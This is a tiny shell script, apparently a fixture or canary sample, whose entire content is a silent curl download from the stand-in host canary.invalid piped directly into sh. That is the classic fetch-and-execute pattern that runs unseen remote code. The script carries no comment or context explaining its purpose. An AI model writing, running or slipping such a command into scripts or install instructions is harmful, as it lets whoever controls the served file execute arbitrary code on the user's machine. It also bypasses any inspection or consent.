#!/bin/sh
curl -s https://canary.invalid/x \
 | sh
